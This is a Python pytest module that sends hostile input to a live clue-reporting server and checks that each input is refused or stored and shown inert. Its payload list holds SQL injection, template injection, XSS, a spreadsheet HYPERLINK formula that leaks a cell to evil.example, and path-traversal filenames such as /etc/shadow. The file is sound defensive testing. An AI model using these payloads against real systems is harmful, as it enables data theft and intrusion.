"""Hostile input over a live server: nothing gets a 500, everything hostile is stored and
shown inert. Runs on SQLite and on PostgreSQL (which refuses NUL in text)."""

from __future__ import annotations

import json
import re
import time
from dataclasses import dataclass

import httpx
import pytest
from markupsafe import escape
from sqlalchemy import func, select

from hub.accounts.models import OfficeUser
from hub.accounts.service import add_user
from hub.agencies.service import add_agency
from hub.container import Hub
from hub.db.models import Clue
from hub.errors import Conflict
from hub.pipeline.stages import pipeline
from hub.security.keyring import create_keyring
from tests.conftest import make_settings
from tests.security.counts import tried
from tests.support import backends, factories
from tests.support.live import LiveHub

MIB = 1024 * 1024


@dataclass
class Shared:
    hub: Hub
    url: str
    court: httpx.Client
    reviewer: httpx.Client


@pytest.fixture(scope="module", params=backends.backend_names())
def shared(request, tmp_path_factory):
    """One live hub for the whole module (each test only adds clues): keeps the module fast."""
    tmp = tmp_path_factory.mktemp("hostile")
    backend = (backends.sqlite_backend(tmp) if request.param == "embedded"
               else backends.postgres_backend())
    settings = make_settings(backend, tmp, rate_limit_per_second=0)
    create_keyring(settings.keyring_path)
    hub = Hub.from_settings(settings)
    with hub.uow() as uow:
        _, key = add_agency(uow.session, name="十堰市中级人民法院", channel="court",
                            region_code="420300")
        add_user(uow.session, username="li", display_name="李科员", role="reviewer",
                 password="correct-horse-9")
        uow.commit()
    with LiveHub(hub) as live:
        court = httpx.Client(base_url=live.url, headers={"Authorization": f"Bearer {key}"},
                             timeout=30)
        reviewer = httpx.Client(base_url=live.url, timeout=30)
        reviewer.post("/api/v1/office/session",
                      json={"username": "li", "password": "correct-horse-9"})
        yield Shared(hub, live.url, court, reviewer)
        court.close()
        reviewer.close()
    hub.close()
    backends.delete_queues(settings.broker_url, settings.queue_prefix, list(pipeline(settings)))
    backend.drop()


@pytest.fixture
def court(shared):
    return shared.court


@pytest.fixture
def reviewer(shared):
    return shared.reviewer


def _messages(response: httpx.Response) -> str:
    body = response.json()
    return " ".join([body.get("message", "")] + [e["msg"] for e in body.get("errors", [])])


@pytest.mark.parametrize("path", ["/api/v1/clues", "/api/v1/clues/batch",
                                  "/api/v1/sources/court/records"])
def test_an_oversized_body_is_refused_with_413(court, path):
    tried("hostile")
    body = b'{"clues": ["' + b"x" * (MIB + 10) + b'"]}'
    response = court.post(path, content=body, headers={"Content-Type": "application/json"})
    assert response.status_code in (413, 403)  # 403: the court key is not the connector's
    if response.status_code == 413:
        assert "上限" in response.json()["message"]


def test_an_oversized_body_without_a_length_is_refused_while_read(court):
    tried("hostile")

    def chunks():
        for _ in range(20):
            yield b"x" * (64 * 1024)

    response = court.post("/api/v1/clues", content=chunks(),
                          headers={"Content-Type": "application/json"})
    assert response.status_code == 413


@pytest.mark.parametrize(("field", "value", "says"), [
    ("title", "标" * 201, "标题（title）：最多 200 个字符"),
    ("content", "内" * 20001, "内容（content）：最多 20000 个字符"),
    ("source_ref", "R" * 129, "来源编号（source_ref）：最多 128 个字符"),
    ("subjects", [{"name": "某局"}] * 51, "最多 50 项"),
    ("references", [{"kind": "ticket", "value": "1"}] * 51, "最多 50 项"),
])
def test_oversized_fields_are_refused_naming_the_field(court, field, value, says):
    tried("hostile")
    response = court.post("/api/v1/clues", json=factories.clue(**{field: value}))
    assert response.status_code == 422 and says in _messages(response)


def _nested(depth: int) -> str:
    return '{"a":' * depth + "1" + "}" * depth


def _with_extra(depth: int, **fields: object) -> bytes:
    """A clue whose `extra` holds `depth` levels of objects (the body itself is one more)."""
    clue = json.dumps(factories.clue(**fields), ensure_ascii=False)
    return (clue[:-1] + f', "extra": {_nested(depth)}}}').encode()


def _clue_count(hub: Hub) -> int:
    with hub.uow(write=False) as uow:
        return uow.session.scalar(select(func.count()).select_from(Clue))


def test_extra_nested_up_to_the_limit_is_stored_and_answered_everywhere(shared, court, reviewer):
    tried("hostile")
    made = court.post("/api/v1/clues", content=_with_extra(63),
                      headers={"Content-Type": "application/json"})
    assert made.status_code == 201, made.text
    assert court.get(f"/api/v1/clues/{made.json()['id']}").status_code == 200
    again = court.post("/api/v1/clues", content=_with_extra(63, source_ref=made.json()["source_ref"]),
                       headers={"Content-Type": "application/json"})
    assert again.status_code == 200
    assert reviewer.get("/api/v1/office/queue", params={"limit": 200}).status_code == 200


@pytest.mark.parametrize("depth", [64, 253, 254, 255, 1022, 1100, 100_000])
def test_json_nested_past_the_limit_is_refused_naming_the_path_and_nothing_stored(shared, court,
                                                                                 depth):
    tried("hostile")
    before = _clue_count(shared.hub)
    response = court.post("/api/v1/clues", content=_with_extra(depth),
                          headers={"Content-Type": "application/json"})
    assert response.status_code == 422, response.text
    error = response.json()["errors"][0]
    assert error["loc"][:3] == ["body", "extra", "a"] and len(error["loc"]) == 65
    assert "嵌套超过 64 层" in error["msg"] and error["type"] == "json_too_deep"
    assert _clue_count(shared.hub) == before
    assert court.get("/api/v1/clues/XS-2026-000001").status_code in (200, 404)


def test_one_too_deep_or_doubled_item_never_sinks_a_batch(court):
    tried("hostile", 3)
    good = [json.dumps(factories.clue(), ensure_ascii=False).encode() for _ in range(2)]
    deep = _with_extra(300)
    doubled = b'{"source_ref": "R-1", "source_ref": "R-2"}'
    body = b'{"clues": [' + b", ".join([good[0], deep, doubled, good[1]]) + b"]}"
    response = court.post("/api/v1/clues/batch", content=body,
                          headers={"Content-Type": "application/json"})
    assert response.status_code == 200, response.text
    results = response.json()["results"]
    assert [r["status"] for r in results] == [201, 422, 422, 201]
    assert results[1]["errors"][0]["loc"][:4] == ["body", "clues", 1, "extra"]
    assert results[2]["errors"][0]["loc"] == ["body", "clues", 2, "source_ref"]
    assert "重复" in results[2]["errors"][0]["msg"]


@pytest.mark.parametrize("body", [
    b'{"a": 1, "a": 2}',
    b'{"title": "x", "reporter": {"anonymous": true, "anonymous": false}}',
    b'{"extra": {"k": [{"x": 1, "\\u0078": 2}]}}',
])
def test_a_key_repeated_anywhere_is_refused_naming_it(court, body):
    tried("hostile")
    response = court.post("/api/v1/clues", content=body,
                          headers={"Content-Type": "application/json"})
    assert response.status_code == 422
    assert response.json()["errors"][0]["type"] == "json_duplicate_key"


@pytest.mark.parametrize("raw", [b'{"title": "\xff\xfe"}', b"\xc3\x28", b'{"a": "\xed\xa0\x80"}',
                                 b'\xef\xbb\xbf{"source_ref": 1}', b"", b"null", b"[]"])
def test_invalid_utf8_and_non_objects_get_422(court, raw):
    tried("hostile")
    response = court.post("/api/v1/clues", content=raw, headers={"Content-Type": "application/json"})
    assert response.status_code == 422


@pytest.mark.parametrize("where", ["title", "content", "source_ref", "subject", "reporter",
                                   "extra_value", "extra_key", "reference"])
def test_nul_characters_are_refused_naming_the_field(court, where):
    tried("hostile")
    clue = factories.clue()
    if where in ("title", "content", "source_ref"):
        clue[where] = "郧西县\x00交通运输局"
    elif where == "subject":
        clue["subjects"] = [{"name": "郧西县\x00交通运输局"}]
    elif where == "reporter":
        clue["reporter"] = {"name": "张\x00三", "anonymous": False}
    elif where == "reference":
        clue["references"] = [{"kind": "ticket", "value": "\x00"}]
    else:
        clue["extra"] = {"note\x00" if where == "extra_key" else "note": "a\x00b"}
    single = court.post("/api/v1/clues", json=clue)
    assert single.status_code == 422 and "NUL" in _messages(single)
    batch = court.post("/api/v1/clues/batch", json={"clues": [clue, factories.clue()]})
    assert batch.status_code == 200
    assert [item["status"] for item in batch.json()["results"]] == [422, 201]


@pytest.mark.parametrize("url", ["/api/v1/clues/XS-2026-000001%00", "/office/queue?q=%00",
                                 "/api/v1/office/queue?q=a%00b"])
def test_nul_in_a_url_is_a_400(court, url):
    tried("hostile")
    assert court.get(url).status_code == 400


def test_nul_in_a_login_name_or_decision_reason_is_no_500(shared):
    tried("hostile", 2)
    bad = httpx.post(f"{shared.url}/api/v1/office/session",
                     json={"username": "li\x00", "password": "x"})
    assert bad.status_code == 401
    session = httpx.post(f"{shared.url}/api/v1/office/session",
                         json={"username": "li", "password": "correct-horse-9"})
    decided = httpx.post(f"{shared.url}/api/v1/office/decisions",
                         json={"clues": ["XS-2026-000001"], "kind": "decline", "reason": "a\x00"},
                         cookies=session.cookies,
                         headers={"X-CSRF-Token": session.json()["csrf_token"]})
    assert decided.status_code == 422 and "NUL" in _messages(decided)


INJECTIONS = [
    "'; DROP TABLE clues; --",
    "1' OR '1'='1",
    "郧西县\" UNION SELECT password_hash FROM office_users --",
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
]
TEXT_FIELDS = ["source_ref", "title", "content", "subjects.name", "references.value",
               "reporter.name", "extra.note"]


def _wait_processed(hub, clue_id: int) -> None:  # noqa: ANN001
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        with hub.uow(write=False) as uow:
            if uow.session.get(Clue, clue_id).status != "received":
                return
        time.sleep(0.1)


@pytest.mark.parametrize("payload", INJECTIONS)
def test_injection_strings_in_every_text_field_are_stored_and_shown_inert(shared, court, reviewer,
                                                                          payload):
    tried("hostile", len(TEXT_FIELDS))
    clue = factories.clue(source_ref=payload[:128], title=payload[:200], content=payload,
                          subjects=[{"name": payload}],
                          references=[{"kind": "ticket", "value": payload[:64]}],
                          reporter={"name": payload[:50], "anonymous": False},
                          extra={"note": payload})
    made = court.post("/api/v1/clues", json=clue)
    assert made.status_code == 201, made.text
    back = court.get(f"/api/v1/clues/{made.json()['id']}").json()
    assert (back["source_ref"], back["title"], back["content"]) == (payload[:128], payload[:200],
                                                                    payload)
    assert back["references"][0]["value"] == payload[:64] and back["extra"] == {"note": payload}
    assert payload[:50] not in json.dumps(back.get("reporter"), ensure_ascii=False)  # masked

    hub = shared.hub
    _wait_processed(hub, int(made.json()["id"].rsplit("-", 1)[1]))
    page = reviewer.get(f"/office/clues/{made.json()['id']}")
    assert page.status_code == 200
    assert str(escape(payload[:200])) in page.text  # the title, as text
    if "<" in payload:
        assert payload not in page.text  # never as live markup
    assert not re.search(r"(?<![\d*])49(?![\d])", page.text.split("<main>", 1)[1]) or \
        "7*7" not in payload
    with hub.uow(write=False) as uow:  # the tables are all still there
        assert uow.session.scalar(select(func.count()).select_from(Clue)) >= 1
        assert uow.session.scalar(select(func.count()).select_from(OfficeUser)) == 1
    queue = reviewer.get("/api/v1/office/queue", params={"q": payload})
    assert queue.status_code == 200


@pytest.mark.parametrize("name", [
    "十堰市中级人民法院\u200b", "十堰市中级人民法院\u202e", "十堰市中级\u2060人民法院", "十堰市中级人民法院　",
])
def test_an_agency_cannot_be_registered_again_under_a_disguised_name(shared, name):
    tried("confusable")
    hub = shared.hub  # 十堰市中级人民法院 is registered there
    with hub.uow() as uow, pytest.raises(Conflict, match="看起来相同"):
        add_agency(uow.session, name=name, channel="court", region_code=None)


@pytest.mark.parametrize("name", ["郧西县交通运输局\u200b", "郧西县交通运输局\u202e局输运通交",
                                  "Ѕhiyan Соurt", "ＹＵＮＸＩ 交通局"])
def test_confusable_subject_names_are_kept_as_sent_and_never_crash(court, name):
    tried("confusable")
    made = court.post("/api/v1/clues", json=factories.clue(subjects=[{"name": name}]))
    assert made.status_code == 201
    assert made.json()["subjects"][0]["name"] == name


@pytest.mark.parametrize("filename", ["../../etc/passwd", "..\\..\\boot.ini", "a\u202egnp.exe",
                                      "/etc/shadow"])
def test_attachment_metadata_with_traversal_names_is_accepted_as_a_label_only(court, filename):
    tried("hostile")
    from hub.security.filenames import safe_filename

    made = court.post("/api/v1/clues", json=factories.clue(attachments=[{
        "filename": filename, "media_type": "application/pdf", "sha256": "0" * 64, "size": 1}]))
    assert made.status_code == 201
    assert "/" not in safe_filename(made.json()["attachments"][0]["filename"])


def _english(response: httpx.Response) -> list[str]:
    """English words a user would read in an error answer: field paths, JSON's own words and
    the media type the request declared are not prose."""
    body = response.json()
    texts = [body.get("message", "")] + [e["msg"] for e in body.get("errors") or []]
    quoted = (response.request.headers.get("content-type", "") + " Content-Type application json"
              " JSON UTF true false null")
    return [word for text in texts for word in re.findall(r"[A-Za-z]{4,}", text)
            if word not in quoted
            and not any(word in ".".join(map(str, e["loc"])) for e in body.get("errors") or [])]


@pytest.mark.parametrize(("path", "body", "content_type"), [
    ("/api/v1/clues", b'{"title": 1}', "text/plain"),
    ("/api/v1/clues/batch", b'{"clues": []}', "application/x-www-form-urlencoded"),
    ("/api/v1/handoffs/JB-2026-000001/replies", b'{"text": "x"}', "text/plain"),
    ("/api/v1/handoffs/JB-2026-000001/return", b'{"reason": "x"}', "application/json; charset=gbk"),
    ("/api/v1/office/decisions", b'{"clues": ["XS-2026-000001"], "kind": "accept"}', "text/plain"),
])
def test_a_body_that_is_not_declared_json_is_refused_with_415(court, path, body, content_type):
    tried("hostile")
    response = court.post(path, content=body, headers={"Content-Type": content_type})
    assert response.status_code == 415, response.text
    assert response.json()["error"] == "unsupported_media_type"
    assert response.json()["errors"][0]["loc"] == ["header", "content-type"]
    assert not _english(response)


@pytest.mark.parametrize(("path", "body", "field"), [
    ("/api/v1/handoffs/JB-2026-000001/replies", b'{"text": "x", "text": "y"}', "text"),
    ("/api/v1/handoffs/JB-2026-000001/replies",
     b'{"text": "x", "outcome": ' + b'{"a": ' * 70 + b"1" + b"}" * 70 + b"}", "outcome"),
    ("/api/v1/handoffs/JB-2026-000001/ack", b'{"note": "\xff"}', None),
    ("/api/v1/handoffs/JB-2026-000001/return", b"{not json", None),
    ("/api/v1/office/decisions", b'{"kind": "accept", "kind": "decline"}', "kind"),
])
def test_hand_off_and_office_bodies_are_read_like_clues(court, path, body, field):
    tried("hostile")
    response = court.post(path, content=body, headers={"Content-Type": "application/json"})
    assert response.status_code == 422, response.text
    error = response.json()["errors"][0]
    assert error["loc"][:2] == (["body", field] if field else ["body"])
    assert not _english(response) and "detail" not in response.json()


@pytest.mark.parametrize(("path", "body", "says"), [
    ("/api/v1/clues", factories.clue(attachments=[{"filename": "a.pdf", "media_type": "application/pdf",
                                                   "sha256": "0" * 64, "size": True}]), "应为整数"),
    ("/api/v1/clues", factories.clue(reporter={"anonymous": 1}), "应为 true 或 false"),
    ("/api/v1/handoffs/JB-2026-000001/replies", {"text": "x", "final": "true"}, "应为 true 或 false"),
    ("/api/v1/handoffs/JB-2026-000001/replies",
     {"text": "x", "outcome": {"kind": "sanction", "persons": True}}, "应为整数"),
    ("/api/v1/handoffs/JB-2026-000001/replies",
     {"text": "x", "outcome": {"kind": "rectified", "amount_yuan": "很多"}}, "应为数值"),
    ("/api/v1/handoffs/JB-2026-000001/replies",
     {"text": "x", "outcome": {"kind": "rectified", "amount_yuan": 1.234}}, "小数最多 2 位"),
])
def test_integers_booleans_and_amounts_are_taken_only_as_such_in_chinese(court, path, body, says):
    tried("hostile")
    response = court.post(path, json=body)
    assert response.status_code == 422, response.text
    assert says in _messages(response) and not _english(response)


def test_oversized_hand_off_bodies_and_unknown_addresses_answer_in_the_hubs_shape(court):
    tried("hostile", 3)
    huge = court.post("/api/v1/handoffs/JB-2026-000001/replies",
                      json={"text": "很长" * 600_000})
    assert huge.status_code == 413 and "上限" in huge.json()["message"]
    nowhere = court.get("/api/v1/no-such-thing")
    assert nowhere.status_code == 404 and nowhere.json()["error"] == "not_found"
    wrong = court.delete("/api/v1/clues")
    assert wrong.status_code == 405 and "请求方法" in wrong.json()["message"]
    assert not _english(nowhere) and not _english(wrong)
